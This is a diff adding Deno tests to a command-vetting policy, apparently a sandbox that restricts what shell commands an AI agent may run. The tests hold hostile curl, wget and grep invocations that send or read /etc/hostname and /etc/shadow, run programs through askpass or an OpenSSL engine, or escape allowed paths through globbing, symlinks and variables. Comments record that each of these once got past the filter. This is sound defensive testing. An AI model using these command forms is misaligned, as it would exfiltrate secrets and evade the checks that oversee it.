@@ -839,13 +839,257 @@ Deno.test("policy checks the file of @/path and of a file: URL like a path", asy
       );
     });
     await t.step("what stays allowed", () => {
-      accepted(["curl", "-d", `@${dir}/body`, `file://${dir}/x`, "http://h/#x@/etc"], policy);
+      accepted(["curl", "-d", `@${dir}/body`, `file://${dir}/x`, "http://h/#x@/tmp"], policy);
       accepted(["date", "-d", "@1700000000"], policy, dir);
       accepted(["echo", "user@host", "a@b/c"], policy, dir);
     });
   } finally {
     await Deno.remove(dir, { recursive: true });
   }
+});
+
+Deno.test("policy checks the files curl and wget read in their other forms", async (t) => {
+  // Each sent /etc/hostname to the server: curl -F 'f=</path' (the file's text), a quoted
+  // -F 'f=@"/path"', a list -F 'f=@/tmp/a,/path', --data-urlencode name@/path, and wget's
+  // -e 'post_file = /path' (spaces around the value); none was read as a path.
+  const dir = await Deno.makeTempDir({ dir: "/tmp", prefix: "status-policy-forms-" });
+  const config = `${dir}/config.json`;
+  const policy = createPolicy({ extraPrograms: ["curl", "wget"], protectedPaths: [config] });
+  const outside = (path: string) =>
+    `path "${path}" is outside the allowed prefixes (/tmp, /var/tmp)`;
+  try {
+    await Deno.writeTextFile(config, "{}");
+    await Deno.symlink("/etc", `${dir}/link`);
+    await t.step("absolute files", () => {
+      for (
+        const argv of [
+          ["curl", "-F", "f=</etc/hostname", "http://h/"],
+          ["curl", "-F", 'f=@"/etc/hostname"', "http://h/"],
+          ["curl", "-F", `f=@${dir}/a,/etc/hostname`, "http://h/"],
+          ["curl", "-F", `f=@${dir}/a;type=text/plain,"/etc/hostname"`, "http://h/"],
+          ["curl", "--data-urlencode", "x@/etc/hostname", "http://h/"],
+          ["curl", "--data-urlencode", "a:b/c@/etc/hostname", "http://h/"],
+          ["wget", "-e", "post_file = /etc/hostname", "http://h/"],
+          ["wget", "--execute=post_file= /etc/hostname", "http://h/"],
+        ]
+      ) {
+        assert.equal(refused(argv, policy), outside("/etc/hostname"), argv.join(" "));
+      }
+    });
+    await t.step("through a symlink, or the agent's own file, behind parameters", () => {
+      assert.match(
+        refused(["curl", "-F", `f=@${dir}/link/hostname;type=text/plain`, "http://h/"], policy),
+        /^path ".*\/link\/hostname(;type=text\/plain)?" leaves the allowed prefixes through a symb/,
+      );
+      assert.equal(
+        refused(["curl", "-F", `f=<${config}`, "http://h/"], policy),
+        `path "${config}" is the agent's own ${config} or lies in it (its state or settings), ` +
+          "which commands may not touch",
+      );
+    });
+    await t.step("relative to the working directory", () => {
+      for (
+        const arg of ["f=<config.json", 'f=@"config.json"', "f=@a,config.json", "x@config.json"]
+      ) {
+        assert.match(
+          refused(["curl", "-F", arg, "http://h/"], policy, dir),
+          /is the agent's own .*config\.json or lies in it/,
+          arg,
+        );
+      }
+      assert.match(
+        refused(["wget", "-e", "post_file = hostname", "http://h/"], policy, "/etc"),
+        /^path "hostname" of "post_file = hostname" is \/etc\/hostname relative to the working/,
+      );
+    });
+    await t.step("what stays allowed", () => {
+      accepted(["curl", "-F", `f=@${dir}/a;type=text/plain`, "-F", "g=<x", "http://h/"], policy);
+      accepted(["curl", "--data-urlencode", "q=a@/etc", "-d", '{"a":1}', "http://h/"], policy);
+      accepted(["wget", "-e", "robots = off", "http://h/"], policy, dir);
+      // Data that holds "=/path" further on is no setting.
+      accepted(["curl", "-d", "q=1&path=/var/log", "http://h/"], policy, dir);
+    });
+  } finally {
+    await Deno.remove(dir, { recursive: true });
+  }
+});
+
+Deno.test("policy refuses curl's and wget's config files, wget's askpass, curl's engine and default protocol", async (t) => {
+  // curl -K /tmp/cfg posted what `data = "@/etc/shadow"` there named, wget --config the same with
+  // `post_file`, and wget --use-askpass=/tmp/x/s (or -e 'use_askpass = ...') ran /tmp/x/s, a
+  // program on no allowlist, once a command had extracted it there with tar.
+  const policy = createPolicy({ extraPrograms: ["curl", "wget"] });
+  const config = "reads more of its options from a file, which these rules never see";
+  await t.step("named, abbreviated or bundled", () => {
+    for (
+      const [argv, option] of [
+        [["curl", "-K", "/tmp/cfg", "http://h/"], "-K"],
+        [["curl", "-sK", "/tmp/cfg"], "-K"],
+        [["curl", "--config", "/tmp/cfg"], "--config"],
+        [["curl", "--conf=/tmp/cfg"], "--conf"],
+        [["wget", "--config=/tmp/cfg", "http://h/"], "--config"],
+        [["wget", "--confi", "/tmp/cfg", "http://h/"], "--confi"],
+      ] as const
+    ) {
+      assert.equal(
+        refused([...argv], policy),
+        `option "${option}" of ${argv[0]} ${config} and is not allowed`,
+      );
+    }
+    assert.equal(
+      refused(["wget", "--use-askpass=/tmp/x/s", "http://u@h/"], policy),
+      `option "--use-askpass" of wget runs other programs and is not allowed`,
+    );
+    // curl --engine /tmp/x.so ran the library's code; --proto-default file read
+    // localhost/etc/hostname.
+    assert.equal(
+      refused(["curl", "--engine", "/tmp/x.so", "http://h/"], policy),
+      `option "--engine" of curl loads and runs the library it names (OpenSSL's dynamic ` +
+        "engine) and is not allowed",
+    );
+    assert.match(
+      refused(["curl", "--proto-def", "file", "localhost/etc/hostname"], policy),
+      /^option "--proto-def" of curl makes a URL without a scheme a file: URL/,
+    );
+  });
+  await t.step("wget's setting, however written", () => {
+    for (const setting of ["use_askpass = /tmp/x/s", "USEASKPASS=/tmp/x/s", "use-ask_pass=s"]) {
+      assert.equal(
+        refused(["wget", "-e", setting, "http://u@h/"], policy),
+        `setting "${setting}" of wget runs other programs and is not allowed`,
+      );
+    }
+    assert.match(
+      refused(["wget", "--execute=useAskPass=sh", "http://u@h/"], policy),
+      /^setting "--execute=useAskPass=sh" of wget runs other programs/,
+    );
+  });
+  await t.step("what stays allowed", () => {
+    accepted(["curl", "-q", "--connect-timeout", "5", "-s", "http://h/"], policy);
+    accepted(["curl", "--proto", "=https", "--proto-redir", "=https", "https://h/"], policy);
+    accepted(["wget", "--no-config", "-e", "robots = off", "-q", "http://h/"], policy);
+  });
+});
+
+Deno.test("policy checks each URL curl's globbing makes of an argument", async (t) => {
+  // curl 'file:///tmp/{x,..}/etc/hostname', '{file,x}:///etc/hostname' and
+  // '[f-f]ile:///etc/hostname' printed /etc/hostname: the rules saw a path under /tmp, or none.
+  const policy = createPolicy({ extraPrograms: ["curl"] });
+  const hint = 'give -g (--globoff) as its first argument (and no --next) to pass "{", "[" and ' +
+    '"#" as written';
+  await t.step("a set or a range that leads out", () => {
+    assert.equal(
+      refused(["curl", "file:///tmp/{x,..}/etc/hostname"], policy),
+      `path "file:///tmp/../etc/hostname" has a ".." segment (curl expands ` +
+        `"file:///tmp/{x,..}/etc/hostname" to "file:///tmp/../etc/hostname"; ${hint})`,
+    );
+    for (
+      const url of [
+        "{file,x}:///etc/hostname",
+        "[f-f]ile:///etc/hostname",
+        "fi{<n>le}:/etc/hostname",
+      ]
+    ) {
+      assert.match(
+        refused(["curl", "-s", url], policy),
+        /^path "\/etc\/hostname" is outside the allowed prefixes .*; give -g/,
+        url,
+      );
+    }
+    assert.match(
+      refused(["curl", "file:///tmp/{x,%2e%2e}/etc/hostname"], policy),
+      /^path "\/tmp\/..\/etc\/hostname" has a ".." segment/,
+    );
+  });
+  await t.step("what cannot be checked: too many URLs, or a glob curl would refuse", () => {
+    for (const arg of ["http://h/page[1-1000]", '{"a":{"b":1}}', "http://h/{a", "x]"]) {
+      assert.match(
+        refused(["curl", "-d", arg, "http://h/"], policy),
+        /^argument ".*" of curl is a URL glob/,
+      );
+    }
+  });
+  await t.step("an output file named after what a glob matched", () => {
+    assert.equal(
+      refused(["curl", "http://h/{a,link/cron.d}/x", "-o", "/tmp/#1"], policy),
+      `argument "/tmp/#1" of curl names a file after what a URL glob matched (#1, ...), which ` +
+        `these rules never see; ${hint}`,
+    );
+  });
+  await t.step("-g first turns globbing off, unless --next or --no-globoff follows", () => {
+    accepted(["curl", "-g", "file:///tmp/{x,..}/etc/hostname", "-o", "/tmp/#1"], policy);
+    accepted(["curl", "--globoff", "-d", '{"a":{"b":[1,2]}}', "http://h/"], policy);
+    for (const more of [["--next"], ["-:"], ["--no-globoff"], ["--no-glob"]]) {
+      assert.match(
+        refused(["curl", "-g", "http://h/", ...more, "file:///tmp/{x,..}/etc"], policy),
+        /has a "\.\." segment \(curl expands/,
+        more[0],
+      );
+    }
+    assert.equal(
+      refused(["curl", "-s", "-g", "file:///tmp/{x,..}/e"], policy).includes("expands"),
+      true,
+    );
+  });
+  await t.step("what stays allowed", () => {
+    accepted(["curl", "-s", "-w", "%{http_code}", "-d", '{"a":1,"b":2}', "http://h/"], policy);
+    accepted(["curl", "http://[::1]:5000/x", "http://h/{a,b}/[1-3]", "file:///tmp/{a,b}"], policy);
+    accepted(["curl", "http://h/\\{a,..\\}/x", "-o", "/tmp/out#1"], policy);
+  });
+});
+
+Deno.test("policy refuses grep -R, which follows the symlinks in the directories it searches", () => {
+  // grep -R root /tmp/x printed /etc/shadow's lines through /tmp/x/link, a symlink to /etc.
+  const policy = createPolicy({ extraPrograms: ["grep", "egrep"] });
+  const refusal = (option: string, program = "grep") =>
+    `option "${option}" of ${program} follows symbolic links and is not allowed`;
+  assert.equal(refused(["grep", "-R", "root", "/tmp/x"], policy), refusal("-R"));
+  assert.equal(refused(["grep", "-lR", "root", "/tmp/x"], policy), refusal("-R"));
+  assert.equal(refused(["egrep", "-R", "root", "/tmp/x"], policy), refusal("-R", "egrep"));
+  assert.equal(
+    refused(["grep", "--dereference-rec", "root", "/tmp/x"], policy),
+    refusal("--dereference-rec"),
+  );
+  accepted(["grep", "-r", "-i", "--include=*.log", "root", "/tmp/x"], policy);
+});
+
+Deno.test("policy refuses curl's write-out to a file, and its format read from one", () => {
+  // curl 8.3 and later write what follows %output{/path} in -w to that file: -w '%output{/x}...'
+  // wrote outside the prefixes, and -w @/tmp/fmt (a file a command downloaded) the same unseen.
+  const policy = createPolicy({ extraPrograms: ["curl"] });
+  for (const format of ["%output{/etc/x}%{url}", "%OUTPUT{>>/tmp/link/x}"]) {
+    assert.equal(
+      refused(["curl", "-s", "-w", format, "http://h/"], policy),
+      `argument "${format}" of curl holds "%output{", which writes to the file it names (curl ` +
+        "8.3 and later), and is not allowed",
+    );
+  }
+  for (
+    const argv of [["-w", "@/tmp/fmt"], ["--write-out", "@fmt"], ["-sw", "@-"], ["-sw@/tmp/f"]]
+  ) {
+    assert.match(
+      refused(["curl", ...argv, "http://h/"], policy),
+      /^write-out "@.*" of curl reads its format from a file/,
+      argv.join(" "),
+    );
+  }
+  accepted(["curl", "-s", "-w", "%{http_code} %{url}", "-o", "/tmp/x", "http://h/"], policy);
+});
+
+Deno.test("policy refuses curl's --expand- options, which put variables into a path", () => {
+  // curl 8.3 and later: --variable d=. --expand-url 'file:///tmp/{{d}}{{d}}/etc/shadow' read
+  // /tmp/../etc/shadow, a path no argument held.
+  const policy = createPolicy({ extraPrograms: ["curl"] });
+  assert.equal(
+    refused(
+      ["curl", "-g", "--variable", "d=.", "--expand-url", "file:///tmp/{{d}}{{d}}/etc/x"],
+      policy,
+    ),
+    `option "--expand-url" of curl puts the values of its variables ({{name}}) into its ` +
+      "argument, which these rules then never see, and is not allowed",
+  );
+  assert.match(refused(["curl", "--expand-output", "x", "h"], policy), /--expand-output/);
+  accepted(["curl", "-g", "--variable", "d=.", "-d", "{{d}}", "http://h/"], policy);
 });
 
 Deno.test("policy keeps commands from changing an allowed program under a prefix", async (t) => {
